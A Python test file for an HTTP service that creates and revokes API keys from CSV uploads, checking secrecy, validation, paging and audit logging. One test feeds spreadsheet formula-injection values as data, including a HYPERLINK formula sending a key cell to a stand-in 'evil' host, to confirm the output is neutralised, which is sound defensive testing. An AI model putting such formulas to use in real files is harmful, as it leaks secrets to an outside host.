"""Keys that an operator makes and revokes over HTTP, by a list: all of it, or nothing and the line that is wrong."""

import csv
import io
import json
import logging

import pytest

from sharedllm.http import key_holders
from sharedllm.http.logs import JSONLines
from sharedllm.store.opening import open_keys

CSV = {"Content-Type": "text/csv"}
PUPILS = [f"pupil {number}" for number in range(12)]


def told(response, status=200):
    assert response.status_code == status, response.text
    return response.json()


def invite(client, text, status=201):
    response = client.post("/v1/keys", content=text, headers=CSV)
    assert response.status_code == status, response.text
    return list(csv.DictReader(io.StringIO(response.text, newline=""))) if status == 201 else response.json()["error"]


def test_everybody_in_a_list_gets_a_key_whose_secret_is_told_once(serving):
    server = serving()
    made = invite(server.service, "\ufeffname;label\n" + "".join(f"{each};class 7\n" for each in PUPILS))
    assert [row["user"] for row in made] == PUPILS
    for row in made:
        me = told(server.nobody.get("/v1/me", headers={"Authorization": f"Bearer {row['secret']}"}))
        assert (me["kind"], me["user"]) == ("user", row["user"])
    listed = told(server.service.get("/v1/keys"))["keys"]
    assert [(key["user"], key["label"]) for key in listed[-12:]] == [(each, "class 7") for each in PUPILS]
    assert not any(row["secret"] in json.dumps(listed) for row in made)


def test_what_was_made_is_kept_by_no_cache_and_in_no_log(serving, caplog):
    caplog.set_level(logging.DEBUG)
    server = serving()
    response = server.service.post("/v1/keys", content="user\nzoe\n", headers=CSV)
    assert response.headers["cache-control"] == "no-store"
    (row,) = csv.DictReader(io.StringIO(response.text))
    written = " ".join(JSONLines().format(record) for record in caplog.records) + caplog.text
    assert row["secret"] not in written
    assert "zoe" not in written


def test_a_list_is_taken_as_a_spreadsheet_heads_it(serving):
    made = serving().service.post("/v1/keys", content="Name; Label\nAnna Weber;7b\n", headers=CSV)
    (row,) = csv.DictReader(io.StringIO(made.text))
    assert (row["user"], row["label"]) == ("Anna Weber", "7b")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("user\nann\n\nben\nann\n", "'ann' twice"),
        ("user,label\nann,x\n,y\n", "Line 3"),
        ("user\nann\n" + 1025 * "x" + "\n", "Line 3"),
        ('user\nann\n"ben\n', "not CSV"),
        ("pupil\nann\n", "no column 'user'"),
        ("user\n", "names nobody"),
        ("pupil\nann\n", "Write `name` above the names"),
        ("", "no column 'user'"),
        ("user\n" + "".join(f"{number}\n" for number in range(6)), "6 lines"),
        ("user\nann\n".encode("utf-16"), "UTF-8"),
    ],
)
def test_of_a_list_with_a_mistake_no_key_is_made(serving, published, monkeypatch, text, said):
    monkeypatch.setattr(key_holders, "KEYS_AT_ONCE", 5)
    server = serving()
    before = list(published.keys.all())
    assert said in invite(server.service, text, 400)["message"]
    assert list(published.keys.all()) == before


def test_a_list_is_csv_and_no_longer_than_any_body(serving):
    server = serving(body_bytes=1000)
    assert server.service.post("/v1/keys", json={"user": "ann"}).status_code == 415
    assert invite(server.service, "user\n" + 1000 * "x", 413)["code"] == "body_too_long"


def test_keys_are_listed_in_pages_and_by_whom_they_speak_for(serving):
    server = serving()
    invite(server.service, "user\n" + "\n".join(PUPILS))
    ids, after = [], 0
    while after is not None:
        page = told(server.service.get("/v1/keys", params={"after": after, "limit": 5}))
        ids += [key["id"] for key in page["keys"]]
        after = page["next"]
    assert len(ids) == len(set(ids)) == 12 + len(server.secrets)
    (only,) = told(server.service.get("/v1/keys", params={"user": "pupil 3"}))["keys"]
    assert only["id"] in ids
    assert told(server.service.get("/v1/keys?user=nobody"))["keys"] == []


def test_keys_are_revoked_alone_by_a_list_of_ids_or_by_whom_they_speak_for(serving):
    server = serving()
    made = invite(server.service, "user\n" + "\n".join(PUPILS))
    opened = lambda row: server.nobody.get("/v1/me", headers={"Authorization": f"Bearer {row['secret']}"}).status_code  # noqa: E731
    told(server.service.delete(f"/v1/keys/{made[0]['id']}"))
    by_id = "id,user,secret\n" + "".join(f"{row['id']},{row['user']},{row['secret']}\n" for row in made[1:3])
    assert told(server.service.post("/v1/keys/revoke", content=by_id, headers=CSV)) == {"revoked": 2}
    by_user = "name\npupil 3\npupil 4\n"
    assert told(server.service.post("/v1/keys/revoke", content=by_user, headers=CSV)) == {"revoked": 2}
    assert [opened(row) for row in made] == [401] * 5 + [200] * 7


@pytest.mark.parametrize(
    "text",
    [
        "user\npupil 1\nnobody\n",
        "id\n{id}\n0000000000000000\n",
        'id\n{id}\n""\n',
        "id\n{secret}\n",
        "id\n{id}\n {secret}\n",
        '"id"x\n{id}\n',
        '"id\n{id}\n',
    ],
)
def test_of_a_list_with_a_mistake_no_key_is_revoked(serving, published, text):
    server = serving()
    made = invite(server.service, "user\npupil 1\n")
    response = server.service.post("/v1/keys/revoke", content=text.format(**made[0]), headers=CSV)
    assert response.status_code == 400
    assert made[0]["secret"] not in response.text
    assert all(key.revoked_at is None for key in published.keys.all())


def test_no_cell_of_what_was_made_is_a_formula_to_a_spreadsheet_and_it_can_be_sent_again(serving):
    server = serving()
    names = [
        '=HYPERLINK("http://evil/?k="&D2)',
        "@ann",
        "-1+1",
        "+49",
        "\tx",
        "\rx",
        "'",
        "ann\rben",
        "=\n=",
        "zoe",
    ]
    out = io.StringIO()
    csv.writer(out).writerows([("user", "label"), *((each, "=1+1") for each in names)])
    response = server.service.post("/v1/keys", content=out.getvalue().encode(), headers=CSV)
    assert response.status_code == 201
    made = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in made for cell in row.values())
    assert made[-1]["user"] == "zoe"
    listed = {key["id"]: (key["user"], key["label"]) for key in told(server.service.get("/v1/keys"))["keys"]}
    told_of = [listed[row["id"]] for row in made]
    assert sorted(told_of) == sorted((each, "=1+1") for each in names)
    by_user = "".join(response.text.replace("user,id,", "user,key,", 1))
    assert told(server.service.post("/v1/keys/revoke", content=by_user.encode(), headers=CSV)) == {
        "revoked": len(names)
    }


def test_a_server_that_asks_nobody_has_no_keys(serving):
    nobody = serving(open=True).nobody
    for method, address in (("GET", "/v1/keys"), ("DELETE", "/v1/keys/0")):
        assert nobody.request(method, address).json()["error"]["code"] == "invalid_input"


def test_the_audit_log_says_that_keys_were_made_and_revoked_and_neither_whose_nor_which(encrypted):
    from sharedllm.store.address import open_database
    from sharedllm.store.evidence.audit import written

    with open_keys(encrypted) as keys:
        made = keys.create_many([("ann", ""), ("ben", "")])
        assert keys.revoke_of(["ann", "ben"]) == 2
        assert [key.user for key in keys.page(user="ben").page] == ["ben"]
        assert keys.page(user="nobody").page == []
    database = open_database(encrypted)
    entries = list(written(database))
    database.close()
    assert [entry.kind for entry in entries][-4:] == ["key_created"] * 2 + ["key_revoked"] * 2
    assert not any(secret in repr(entries) or key.user in repr(entries) for secret, key in made)
